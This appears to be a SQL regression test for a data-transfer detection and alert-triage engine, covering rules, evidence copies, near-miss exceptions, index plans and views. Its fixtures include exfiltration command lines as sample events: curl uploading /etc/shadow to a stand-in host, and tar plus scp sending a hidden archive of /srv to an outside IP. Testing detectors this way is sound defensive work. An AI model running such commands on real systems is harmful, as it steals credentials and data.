-- Triage of other rules: without STATS, without hosts, over a table of one's own; copies of documents; exceptions that
-- nearly fit; and that the shipped indexes lead to what triage reads.
BEGIN;
SET LOCAL search_path = transfer_detect, transfer_detect_internal, public;
SET LOCAL client_min_messages = warning;	-- not how far backfill() is
SET LOCAL timezone = 'UTC';
SET LOCAL datestyle = 'ISO';
ALTER TABLE alerts ALTER COLUMN id RESTART;
ALTER TABLE exceptions ALTER COLUMN id RESTART;
CREATE TABLE own (ts timestamptz, "process.name" text, "process.command_line" text, "host.name" text);
INSERT INTO own VALUES ('2026-11-20 09:10Z', 'curl', 'curl -T /etc/shadow http://x', 'h1'), ('2026-11-20 09:11Z', 'curl', 'curl -T /etc/shadow http://x', 'h1');
UPDATE rules SET enabled = false;
INSERT INTO rules (rule_id, name, query, events, timestamp_field, enabled) VALUES
	('own', 'Own table', 'FROM own | WHERE process.name == "curl" | STATS n = COUNT() BY process.command_line, host.name | WHERE n >= 2', 'own', 'ts', true),
	('total', 'Too many events', 'FROM own | STATS n = COUNT() | WHERE n > 1', 'own', 'ts', true),
	('by-user', 'A user on a host', 'FROM logs-* | STATS n = COUNT() BY user.name | WHERE n == 1', 'events', '@timestamp', true);
INSERT INTO events (timestamp, user_name, process_name, process_command_line, process_executable, event_type, event_action, process_pid) VALUES ('2026-11-20 09:20Z', 'eve', 'sshd', 'sshd: eve', '/usr/sbin/sshd', '{start}', '{exec}', 5);
INSERT INTO evidence_settings (rule_id, documents, bytes) VALUES (NULL, 1, 100000), ('total', 0, 0);
SELECT rule_id, alerts_created FROM run(as_of => '2026-11-20 10:00Z') ORDER BY 1;
SELECT a.rule_id, c.section, c.what FROM alerts AS a, alert_context(a.id) WITH ORDINALITY AS c(section, at, host, what, detail, place) WHERE c.section IN ('alert', 'missing', 'reasons', 'seen', 'process') ORDER BY a.rule_id, array_position('{alert,missing,reasons,seen,process}', c.section), c.place;
SELECT a.rule_id, length(alert_report(a.id)) > 10000 AS page, array(SELECT m[1] FROM regexp_matches(alert_report(a.id), '<h2 id="([a-z]+)"', 'g') AS m) AS sections FROM alerts AS a ORDER BY 1;
SELECT a.rule_id, r.action, r.command, r.effect FROM alerts AS a, alert_response(a.id) AS r ORDER BY 1, r.step;

-- copies: as many as the settings say, seen as such when the events are gone
SELECT a.rule_id, count(e.alert_id) FROM alerts AS a LEFT JOIN alert_evidence AS e ON e.alert_id = a.id GROUP BY 1 ORDER BY 1;
SELECT a.rule_id, count(*) AS events, count(e -> 'transfer_detect' -> 'copied_at') AS copies FROM alerts AS a, alert_events(a.id) AS e GROUP BY 1 ORDER BY 1;
DELETE FROM own;
SELECT a.rule_id, count(*) AS events, count(e -> 'transfer_detect' -> 'copied_at') AS copies FROM alerts AS a, alert_events(a.id) AS e GROUP BY 1 ORDER BY 1;
SELECT said_plain(triage(a.id) -> 'headline'), triage(a.id) ->> 'evidence' AS evidence FROM alerts AS a WHERE a.rule_id = 'own';
-- an extended alert gets more, up to the limit
UPDATE evidence_settings SET documents = 3 WHERE rule_id IS NULL;
INSERT INTO own SELECT '2026-11-20 10:10Z'::timestamptz + i * interval '1 minute', 'curl', 'curl -T /etc/shadow http://x', 'h1' FROM generate_series(1, 5) AS i;
SELECT alerts_extended FROM run('own', '2026-11-20 11:00Z');
SELECT a.event_count, count(*) AS copies, sum(octet_length(e.document::text)) < 100000 AS within FROM alerts AS a JOIN alert_evidence AS e ON e.alert_id = a.id WHERE a.rule_id = 'own' GROUP BY 1;
UPDATE alerts SET status = 'closed', close_reason = 'other';
DELETE FROM alerts;
SELECT count(*) AS copies FROM alert_evidence;

-- exceptions that nearly fit
INSERT INTO exceptions (rule_id, condition, stage, comment) VALUES
	('own', 'host.name == "h2" AND process.command_line == "curl -T /etc/shadow http://x"', 'group', 'another host'),
	('own', 'host.name == "h9"', 'group', 'nothing in common');
INSERT INTO exceptions (rule_id, condition, stage, expires_at) VALUES ('own', 'host.name == "h1"', 'group', '2026-11-19');
SELECT alerts_created FROM backfill('own', '2026-11-20 10:00Z', '2026-11-20 11:00Z');
UPDATE exceptions SET created_at = '2026-01-01';
SELECT e.stage, e.condition, e.fits, e.misses, e.why_not FROM alerts AS a, near_exceptions(a, (SELECT d FROM alert_events(a.id) AS d LIMIT 1)) AS e;
ROLLBACK;

-- plans, with enough events of many hosts
BEGIN;
SET LOCAL search_path = transfer_detect, transfer_detect_internal, public;
INSERT INTO events (timestamp, host_name, process_name, event_action, process_pid, process_entity_id)
SELECT '2026-11-01Z'::timestamptz + i * interval '1 minute', 'host-' || i % 50, 'p' || i % 40, '{exec}', i, 'e' || i FROM generate_series(1, 20000) AS i;
ANALYZE events_default;
CREATE FUNCTION pg_temp.plan(query text) RETURNS SETOF text LANGUAGE plpgsql AS $$
DECLARE line text;
BEGIN
	FOR line IN EXECUTE 'EXPLAIN (COSTS off) ' || query LOOP
		IF line ~ 'Scan' THEN RETURN NEXT regexp_replace(line, '^[ >-]*', ''); END IF;
	END LOOP;
END $$;
SELECT pg_temp.plan($$SELECT * FROM events AS e WHERE hashtextextended(e.host_name, 0) = hashtextextended('host-7', 0) AND e.host_name = 'host-7' AND e.timestamp BETWEEN '2026-11-05Z' AND '2026-11-06Z' ORDER BY e.timestamp DESC LIMIT 4000$$);
SELECT pg_temp.plan($$SELECT * FROM events AS e WHERE hashtextextended(e.process_name, 0) = hashtextextended('p7', 0) AND e.process_name = 'p7' AND e.timestamp > '2026-11-02Z' ORDER BY e.timestamp DESC LIMIT 100$$);
-- host_processes() and the others ask just so
SELECT p.proname FROM pg_proc AS p WHERE p.pronamespace = 'transfer_detect_internal'::regnamespace AND p.prosrc ~ 'hashtextextended\(e\.(host_name|process_name), 0\) = hashtextextended' ORDER BY 1;
ROLLBACK;

-- a view with some of the columns, of other types, tells what it can; a relation that is gone says so
BEGIN;
SET LOCAL search_path = transfer_detect, transfer_detect_internal, public;
SET LOCAL timezone = 'UTC';
SET LOCAL datestyle = 'ISO';
CREATE TABLE own_log (ts timestamptz, hostname text, exe text, pid text, ppid text, cmd text, who text);
INSERT INTO own_log VALUES ('2026-11-20 09:09:58Z', 'h1', '/usr/bin/bash', '10', '1', '/bin/bash /tmp/.x.sh', 'eve'),
	('2026-11-20 09:09:59Z', 'h1', '/usr/bin/tar', '11', '10', 'tar czf /tmp/.a.tgz /srv', 'eve'), ('2026-11-20 09:10Z', 'h1', '/usr/bin/scp', '12', '10', 'scp /tmp/.a.tgz 203.0.113.9:', 'eve');
CREATE VIEW own_view AS SELECT ts AS "@timestamp", hostname AS "host.name", exe AS "process.executable", regexp_replace(exe, '.*/', '') AS "process.name", pid AS "process.pid",
	ppid AS process_parent_pid, cmd AS process_command_line, who AS user_name, 'start'::text AS event_type FROM own_log;
SELECT event_source('own_view');
UPDATE rules SET enabled = false;
INSERT INTO rules (rule_id, name, query, events, enabled) VALUES ('view', 'Own view', 'FROM own_view | WHERE process.name == "scp" | STATS n = COUNT() BY process.command_line', 'own_view', true);
SELECT alerts_created FROM run(as_of => '2026-11-20 10:00Z');
SELECT c.section, c.at, c.what FROM alerts AS a, alert_context(a.id) AS c WHERE c.section IN ('alert', 'missing', 'reasons', 'process');
DROP VIEW own_view;
SELECT c.section, c.what FROM alerts AS a, alert_context(a.id) AS c WHERE c.section IN ('alert', 'missing', 'reasons', 'process');
ROLLBACK;
